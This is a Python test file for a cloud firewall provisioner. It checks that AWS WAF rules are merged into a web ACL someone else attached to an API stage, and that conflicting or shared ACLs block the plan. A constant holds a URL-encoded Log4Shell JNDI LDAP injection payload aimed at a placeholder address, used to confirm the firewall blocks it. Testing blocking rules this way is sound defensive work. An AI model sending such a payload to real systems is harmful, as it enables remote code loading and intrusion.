"""On the embedded AWS: a stage that has somebody else's web ACL keeps it, and is protected all the same."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from provisioners.firewall.rules import ORDER, visible
from stormproof.aws.observe.wafv2 import SCOPE, WebAcl, read_acl, read_logging, read_stages, stage_arn
from stormproof.core.observations import FIREWALL_MARK
from stormproof.core.planning.plans import CURRENT_TOKEN, Call, Format, Ref
from tests.provisioners.live.conftest import Site

THEIRS = "theirs"
ATTACK = "/health?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"
RULE: dict[str, Any] = {
    "Name": "deletes-only-by-day",
    "Priority": 3,
    "Statement": {
        "ByteMatchStatement": {
            "SearchString": b"DELETE",
            "PositionalConstraint": "EXACTLY",
            "FieldToMatch": {"Method": {}},
            "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
        }
    },
    "Action": {"Block": {}},
    "VisibilityConfig": visible("deletes-only-by-day"),
}


@pytest.fixture
def foreign(hardened: Site) -> Iterator[Site]:
    """The system, whose stage somebody has given an ACL of his own."""
    reads = hardened.reached.connection.reader
    ours, stage = read_stages(reads, hardened.context).own, stage_arn(hardened.context, hardened.system.api.stage)
    settings = {"DefaultAction": {"Allow": {}}, "Rules": [RULE], "VisibilityConfig": visible(THEIRS)}
    hardened.inject(
        Call("wafv2", "create_web_acl", {"Name": THEIRS, "Scope": SCOPE, **settings}, yields={"theirs": "Summary.ARN"}),
        Call("wafv2", "associate_web_acl", {"WebACLArn": Ref("theirs"), "ResourceArn": stage}),
    )
    yield hardened
    named = {"Name": THEIRS, "Scope": SCOPE, "Id": CURRENT_TOKEN, "LockToken": CURRENT_TOKEN}
    hardened.inject(
        Call("wafv2", "associate_web_acl", {"WebACLArn": ours, "ResourceArn": stage}),
        Call("wafv2", "delete_web_acl", named),
    )


def theirs(site: Site) -> WebAcl:
    """Return the ACL that the stage has."""
    reads = site.reached.connection.reader
    (stage,) = read_stages(reads, site.context).stages
    return read_acl(reads, stage.acl)


def test_our_rules_come_into_it_and_theirs_stay(foreign: Site) -> None:
    """One apply protects and logs; the next has nothing to do; the ACL on the stage is still theirs."""
    assert foreign.ask(ATTACK).status == 401
    plan = foreign.plan()
    assert {change.control for change in plan.changes} == {"firewall", "firewall-logging"}
    foreign.apply(plan)
    assert not foreign.plan().changes
    acl = theirs(foreign)
    assert acl.document["Name"] == THEIRS
    assert {rule["Name"] for rule in acl.rules} == {
        RULE["Name"],
        *(f"{kind}-{foreign.system.api.id}" for kind in ORDER),
    }
    assert RULE in acl.rules
    refused = foreign.ask(ATTACK)
    assert (refused.status, refused.headers[FIREWALL_MARK]) == (403, "attack")
    assert FIREWALL_MARK not in foreign.ask("/projects/1", "DELETE").headers
    assert read_logging(foreign.reached.connection.reader, acl.arn) is not None


def test_a_rule_that_allows_everything_first_stops_the_plan(foreign: Site) -> None:
    """The conflict names the rule, and the log waits for it."""
    allowing = {**RULE, "Priority": 0, "Action": {"Allow": {}}}
    foreign.inject(theirs(foreign).updated({"Rules": [allowing]}))
    conflict, waiting = foreign.plan().blocked
    assert RULE["Name"] in conflict.reason
    assert (waiting.control, waiting.waits_for) == ("firewall-logging", ("firewall",))


def test_an_acl_that_another_api_uses_stops_the_plan_and_nobody_else_is_refused(foreign: Site) -> None:
    """The other API's stage is named with the way out; the ACL keeps its one rule."""
    reads, api = foreign.reached.connection.reader, Ref("other.api")
    place = {"restApiId": api, "resourceId": Ref("other.root"), "httpMethod": "GET"}
    arn = Format(f"arn:aws:apigateway:{foreign.system.region}::/restapis/{{0}}/stages/prod", (api,))
    foreign.inject(
        Call(
            "apigateway",
            "create_rest_api",
            {"name": "other"},
            yields={"other.api": "id", "other.root": "rootResourceId"},
        ),
        Call("apigateway", "put_method", {**place, "authorizationType": "NONE"}),
        Call("apigateway", "put_integration", {**place, "type": "MOCK"}),
        Call("apigateway", "create_deployment", {"restApiId": api, "stageName": "prod"}),
        Call("wafv2", "associate_web_acl", {"WebACLArn": theirs(foreign).arn, "ResourceArn": arn}),
    )
    (other,) = [each for each in reads.pages("apigateway", "get_rest_apis", "items") if each["name"] == "other"]
    try:
        conflict, waiting = foreign.plan().blocked
        assert f"restapis/{other['id']}/stages/prod" in conflict.reason
        assert "shared_web_acl" in conflict.reason
        assert waiting.control == "firewall-logging"
    finally:
        stage = {"restApiId": other["id"], "stageName": "prod"}
        foreign.inject(
            Call("apigateway", "delete_stage", stage), Call("apigateway", "delete_rest_api", {"restApiId": other["id"]})
        )
    assert [rule["Name"] for rule in theirs(foreign).rules] == [RULE["Name"]]
